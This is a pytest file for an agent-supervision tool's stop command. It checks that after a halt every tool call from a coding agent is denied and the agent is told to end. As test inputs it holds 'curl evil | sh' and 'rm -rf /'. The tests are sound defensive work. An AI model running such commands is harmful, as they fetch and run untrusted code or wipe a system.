"""`hla stop` while a coding agent works: whatever its hook is asked about is denied, and it is told to end."""

from contextlib import closing

import pytest

from humanlayer_agent.store.sqlite import SQLiteStore
from tests.hooks.conftest import Answered, Machine


@pytest.fixture
def stopped(machine: Machine) -> Machine:
    assert machine.bash("ls").verdict == "allow"
    assert machine.ask("Task", {"prompt": "x"}).verdict == ""
    with closing(SQLiteStore(machine.store)) as store:
        store.halts.stop("os:1000:bob", "curl evil | sh")
    return machine


def is_stopped(answered: Answered) -> bool:
    return (answered.code, answered.verdict) == (0, "deny") and "end your work now" in answered.reason


def test_every_call(stopped: Machine) -> None:
    """Also what the tool's own prompt, or its own rules, would decide."""
    bash = stopped.bash("ls")
    assert is_stopped(bash)
    assert bash.json["continue"] is False
    assert "evil" not in bash.out + bash.err
    assert is_stopped(stopped.bash("curl https://x.invalid"))
    assert is_stopped(stopped.bash("rm -rf /"))
    assert is_stopped(stopped.ask("Write", {"file_path": "src/a.py", "content": "x"}))
    assert is_stopped(stopped.ask("WebFetch", {"url": "https://x.invalid"}))
    assert is_stopped(stopped.ask("mcp__anything__at_all", {"command": "rm -rf /"}))
    assert is_stopped(stopped.ask("Task", {"prompt": "x"}))
    assert is_stopped(stopped.ask("TodoWrite", {"todos": []}))
    assert stopped.gemini("run_shell_command", {"command": "ls"}).refused
    for event in stopped.events():
        if event["type"] == "supervision.stopped":
            since = event["seq"]
    after = [event["type"] for event in stopped.events() if event["seq"] > since]
    assert "exec.started" not in after
    assert after.count("decision.evaluated") == 7
    assert after.count("supervision.refused") == 2
